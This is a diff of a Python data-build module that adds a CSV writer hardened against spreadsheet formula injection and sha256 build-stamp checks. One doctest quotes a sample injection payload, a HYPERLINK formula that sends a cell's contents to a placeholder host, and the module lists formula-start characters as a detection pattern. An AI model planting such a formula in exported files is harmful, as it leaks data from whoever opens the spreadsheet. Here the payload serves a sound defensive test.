@@ -5,7 +5,11 @@ so that two builds from the same raw data are byte-identical.
 """
 from __future__ import annotations
 
+import hashlib
 import json
+import os
+import re
+from datetime import datetime
 from pathlib import Path
 
 import pandas as pd
@@ -97,7 +101,57 @@ def write_table(df: pd.DataFrame, out_dir: Path, name: str, sort_by: list[str] |
     pq.write_table(table, path, compression="zstd", write_statistics=False)
     # No date_format: pandas writes a date-only column as 2021-06-03 and keeps the time
     # where there is one (received_at), which a fixed "%Y-%m-%d" cut off.
-    df.to_csv(out_dir / f"{name}.csv", index=False, encoding="utf-8-sig", lineterminator="\n")
+    write_csv(df, out_dir / f"{name}.csv")
+    return path
+
+
+# --------------------------------------------------------------------------- CSV
+
+#: A field starting with one of these is taken as a formula by Excel, LibreOffice and WPS
+#: (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, a tab or a carriage return.
+CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+#: A number as text (-12, +3.5, -1e3, -40%) is data, not a formula: it stays as it is.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
+
+
+def inert_csv_field(value: object) -> object:
+    """A CSV field that no spreadsheet will run: text starting like a formula gets a leading `'`.
+
+    OWASP's advice for CSV injection: prefix such a field with a single quote (and quote the
+    field, which the csv writer does whenever it holds a separator, quote or line break).
+    Numbers, and text that is only a number such as "-3", are left alone.
+
+    >>> inert_csv_field('=HYPERLINK("http://x/?d="&A1,"点击")')
+    '\'=HYPERLINK("http://x/?d="&A1,"点击")'
+    >>> inert_csv_field("-3"), inert_csv_field(-3), inert_csv_field("安阳市")
+    ('-3', -3, '安阳市')
+    """
+    if not isinstance(value, str):
+        return value
+    if value.startswith(CSV_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+        value = "'" + value
+    # A bare carriage return is not quoted by the csv module (lines end in \n) and would
+    # split the row in Excel: line breaks become \n, which is quoted.
+    return value.replace("\r\n", "\n").replace("\r", "\n") if "\r" in value else value
+
+
+def write_csv(df: pd.DataFrame, path: Path, **kwargs) -> Path:
+    """The one CSV writer of the suite: UTF-8 with BOM (Excel), `\\n` line ends, every text field
+    inert (`inert_csv_field`), written to a temporary file and renamed, so a reader never sees
+    half a file. kwargs go to `DataFrame.to_csv` (e.g. date_format). Returns path.
+    """
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    safe = df.copy(deep=False)
+    for col in safe.columns:
+        s = safe[col]
+        if not (pd.api.types.is_numeric_dtype(s) or pd.api.types.is_bool_dtype(s)
+                or pd.api.types.is_datetime64_any_dtype(s)):
+            safe[col] = s.map(inert_csv_field, na_action="ignore")
+    safe.columns = [inert_csv_field(str(c)) for c in safe.columns]
+    tmp = path.with_name(f".{path.name}.tmp")
+    safe.to_csv(tmp, index=False, encoding="utf-8-sig", lineterminator="\n", **kwargs)
+    os.replace(tmp, path)
     return path
 
 
@@ -114,6 +168,96 @@ def read_table(name: str, data_dir: Path | None = None) -> pd.DataFrame:
 
 
 def load_processed(data_dir: Path | None = None) -> dict[str, pd.DataFrame]:
-    """Every processed table present under data_dir, by name."""
+    """Every processed table of the build in data_dir, by name, after checking its stamp.
+
+    A folder without a complete build stamp (`check_build`) raises BuildIncompleteError
+    naming the fix, `ledger build`, rather than handing a report half a build.
+
+    >>> data = load_processed()  # doctest: +SKIP
+    >>> sorted(data)[:3]  # doctest: +SKIP
+    ['activities', 'assignments', 'collection']
+    """
     data_dir = Path(data_dir) if data_dir else config.processed_dir()
-    return {n: read_table(n, data_dir) for n in TABLES if (data_dir / f"{n}.parquet").exists()}
+    stamp = check_build(data_dir)
+    return {n: read_table(n, data_dir) for n in TABLES if n in stamp["tables"]}
+
+
+# --------------------------------------------------------------------------- build stamp
+
+#: The file that says a processed folder holds one complete build (written last).
+BUILD_STAMP = "build_stamp.json"
+
+
+class BuildIncompleteError(ValueError):
+    """A processed folder without a complete build stamp; the message names `ledger build`."""
+
+
+def sha256_file(path: Path) -> str:
+    """Hex sha256 of a file, read in 1 MiB blocks."""
+    h = hashlib.sha256()
+    with open(path, "rb") as fh:
+        for block in iter(lambda: fh.read(1 << 20), b""):
+            h.update(block)
+    return h.hexdigest()
+
+
+def _version() -> str:
+    try:
+        from importlib.metadata import version
+
+        return version("credit-ledger")
+    except Exception:  # an uninstalled checkout still builds
+        return "unknown"
+
+
+def write_stamp(out_dir: Path, inputs: dict[str, str] | None = None,
+                built_at: datetime | None = None) -> Path:
+    """Write out_dir/build_stamp.json for the tables in out_dir: what went in, what came out.
+
+    {"version", "built_at", "inputs": {raw file: sha256}, "tables": {name: {"rows",
+    "parquet", "csv"}}} with the sha256 of every table file, so that a truncated or
+    missing file is caught by `check_build`. Written last, through a temporary file.
+    """
+    out_dir = Path(out_dir)
+    tables = {}
+    for p in sorted(out_dir.glob("*.parquet")):
+        name = p.stem
+        csv = out_dir / f"{name}.csv"
+        tables[name] = {"rows": pq.ParquetFile(p).metadata.num_rows, "parquet": sha256_file(p),
+                        "csv": sha256_file(csv) if csv.exists() else None}
+    stamp = {"version": _version(),
+             "built_at": (built_at or datetime.now()).replace(microsecond=0).isoformat(),
+             "inputs": dict(sorted((inputs or {}).items())), "tables": tables}
+    path = out_dir / BUILD_STAMP
+    tmp = path.with_name(f".{path.name}.tmp")
+    tmp.write_text(json.dumps(stamp, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
+    os.replace(tmp, path)
+    return path
+
+
+def check_build(data_dir: Path | None = None) -> dict:
+    """The build stamp of data_dir, after checking that every table it lists is there, whole.
+
+    Raises BuildIncompleteError (naming `ledger build`) when the stamp is missing or broken,
+    or a table file is missing or differs from what the build wrote.
+    """
+    data_dir = Path(data_dir) if data_dir else config.processed_dir()
+    fix = "run `ledger build` to rebuild it"
+    path = data_dir / BUILD_STAMP
+    try:
+        stamp = json.loads(path.read_text(encoding="utf-8"))
+        listed = stamp["tables"]
+        stamp["inputs"], stamp["built_at"], stamp["version"]  # noqa: B018 - all three must be there
+    except FileNotFoundError:
+        raise BuildIncompleteError(f"{data_dir} holds no complete build (no {BUILD_STAMP}): {fix}") from None
+    except (OSError, ValueError, KeyError, TypeError):
+        raise BuildIncompleteError(f"{path} is damaged: {fix}") from None
+    for name, entry in listed.items():
+        for kind in ("parquet", "csv"):
+            want = entry.get(kind) if isinstance(entry, dict) else None
+            if want is None and kind == "csv":
+                continue
+            f = data_dir / f"{name}.{kind}"
+            if not f.is_file() or sha256_file(f) != want:
+                raise BuildIncompleteError(f"{f} is missing or not the one the build wrote: {fix}")
+    return stamp
